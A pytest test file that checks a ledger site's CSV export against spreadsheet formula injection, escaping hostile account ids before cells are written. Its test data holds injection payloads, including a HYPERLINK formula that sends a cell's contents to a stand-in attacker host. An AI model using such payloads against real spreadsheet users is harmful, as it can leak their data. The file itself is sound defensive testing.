"""The site's CSV files open in a spreadsheet as data, never as formulas (OWASP, CSV
injection): a text cell starting with =, +, -, @, tab or CR gets a leading "'"; a numeric
column keeps a plain decimal number as it is (a negative amount stays a number); a cell
holding a CR is quoted.

The hostile ids go through the operator's CLI (import, publish, site build), as an exchange
would send them: account ids and liquidation ids are free strings in facts.schema.json."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from ledger.service.site_figures import EVENT_COLUMNS, events_csv, safe_cell
from tests.e2e.site_world import FACTS, FUND, T0, backstop

HOSTILE = (  # account id n becomes form n % 6
    lambda n: f'=HYPERLINK("http://evil.example/?leak="&A1,"acct-{n}")',
    lambda n: f"+{n}",
    lambda n: f"-{n}",  # looks like a negative number, but the account column is text
    lambda n: f"@SUM(A{n})",
    lambda n: f"\tacct-{n}",
    lambda n: f"\racct-{n}",
)


def hostile_facts(text: str) -> str:
    """crash-small.jsonl with every account id and liquidation id replaced by a hostile one."""
    out = []
    for line in text.splitlines():
        fact = json.loads(line)
        for holder in [fact, *fact.get("counterparties", [])]:
            if "account" in holder:
                n = int(holder["account"].removeprefix("acct-"))
                holder["account"] = HOSTILE[n % len(HOSTILE)](n)
        if fact["type"] == "liquidation":
            fact["id"] = "-" + fact["id"]  # the events' ref column: text
        out.append(json.dumps(fact, sort_keys=True))
    return "\n".join(out) + "\n"


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    base = tmp_path_factory.mktemp("csv-world")
    db = f"sqlite:///{base / 'ledger.sqlite'}"
    key = base / "operator.key"
    backstop("keygen", "csv.backstop.example", "--out", str(key))
    backstop("init", str(FUND), "--db", db, "--time", T0)
    facts = base / "facts.jsonl"
    facts.write_text(hostile_facts(FACTS.read_text()))
    backstop("import", str(facts), "--db", db)
    published = base / "published"
    backstop("snapshot", "publish", "--key", str(key), "--out", str(published), "--db", db,
             "--time", "2020-03-12T08:59:59Z")
    out = base / "site"
    backstop("site", "build", "--published", str(published), "--out", str(out))
    return out


def rows_of(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))


def test_hostile_account_ids_are_text_cells(site: Path) -> None:
    rows = rows_of(site / "events.csv")
    assert rows[0] == EVENT_COLUMNS
    column = {name: i for i, name in enumerate(rows[0])}
    accounts = {r[column["account"]] for r in rows[1:]}
    # One of each form is among the socialized-loss and clawback rows (hand-picked ids of the
    # fixture: acct-000001's liquidation is socialized, 231 and 236 are clawed).
    for wanted in ("'@SUM(A231)", "'-236", "'+1"):
        assert wanted in accounts, (wanted, sorted(accounts))
    for row in rows[1:]:
        account, ref = row[column["account"]], row[column["ref"]]
        assert account.startswith("'") and account[1] in "=+-@\t\r", account
        assert ref.startswith("'-liq-"), ref
        # amounts are numbers, untouched
        for name in ("index", "amount", "unresolved"):
            assert row[column[name]] == "" or row[column[name]][0] in "0123456789", row
    forms = {a[1] for a in accounts}
    assert forms == {"=", "+", "-", "@", "\t", "\r"}, forms


def test_a_cr_in_a_cell_is_quoted(site: Path) -> None:
    text = (site / "events.csv").read_bytes().decode("utf-8")
    assert "\r" in text
    for line_start in (i + 1 for i, c in enumerate(text) if c == "\n"):
        assert text[line_start:line_start + 1] != "\r"  # no row is split by a bare CR
    assert all('"\'\racct-' in part for part in text.split("\n")[1:] if "\r" in part)
    assert "\r\n" not in text  # rows end in LF, as before


def test_balances_csv_is_unchanged_by_the_rule(site: Path) -> None:
    rows = rows_of(site / "balances.csv")
    assert rows[0] == ["time", "index", "asset", "balance"]
    assert rows[1] == ["2020-03-12T00:00:00Z", "2", "USDT", "10000.00"]


def test_the_rule_cell_by_cell() -> None:
    """Numeric columns keep plain decimals, negative ones included; anything else that
    starts like a formula is prefixed, in any column."""
    assert safe_cell("-12.50", numeric=True) == "-12.50"
    assert safe_cell("-12", numeric=True) == "-12"
    assert safe_cell("12.50", numeric=True) == "12.50"
    assert safe_cell("-12.50", numeric=False) == "'-12.50"
    assert safe_cell("-1+2", numeric=True) == "'-1+2"
    assert safe_cell("+5", numeric=True) == "'+5"
    assert safe_cell("-12.", numeric=True) == "'-12."
    assert safe_cell("=1+1", numeric=True) == "'=1+1"
    assert safe_cell("@SUM(A1)", numeric=False) == "'@SUM(A1)"
    assert safe_cell("\t1", numeric=True) == "'\t1"
    assert safe_cell("acct-1", numeric=False) == "acct-1"
    assert safe_cell(7, numeric=True) == "7"


def test_events_csv_bytes() -> None:
    """A legitimate negative amount stays a number; the hostile text is prefixed; CR quoted."""
    event = {"index": 9, "time": "2020-03-12T01:00:00Z", "kind": "clawback", "market": "BTC-PERP",
             "account": "=HYPERLINK(\"http://x/\",\"y\")", "asset": "USDT", "amount": "-12.50",
             "method": "pro_rata_profit", "unresolved": "-0.01", "adl_quantity": "",
             "adl_price": "=2", "ref": "a\rb"}
    assert events_csv({"events": [event]}).decode() == (
        "index,time,kind,market,account,asset,amount,method,unresolved,adl_quantity,"
        "adl_price,ref\n"
        "9,2020-03-12T01:00:00Z,clawback,BTC-PERP,\"'=HYPERLINK(\"\"http://x/\"\",\"\"y\"\")\","
        "USDT,-12.50,pro_rata_profit,-0.01,,'=2,\"a\rb\"\n")
